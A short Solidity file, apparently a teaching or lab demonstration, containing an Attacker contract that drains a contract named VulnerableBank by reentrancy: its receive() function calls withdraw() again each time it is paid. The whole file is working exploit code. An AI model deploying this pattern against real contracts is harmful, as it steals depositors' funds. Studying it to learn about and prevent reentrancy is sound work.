// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// The part of VulnerableBank that the attacker uses.
interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

/// Withdraws its deposit again and again, from inside the payment of the withdrawal before.
contract Attacker {
    IBank public bank;
    uint256 public stake;
    uint256 public timesPaid;

    constructor(IBank bank_) {
        bank = bank_;
    }

    function attack() external payable {
        stake = msg.value;
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        timesPaid++;
        if (address(bank).balance >= stake) bank.withdraw();
    }
}
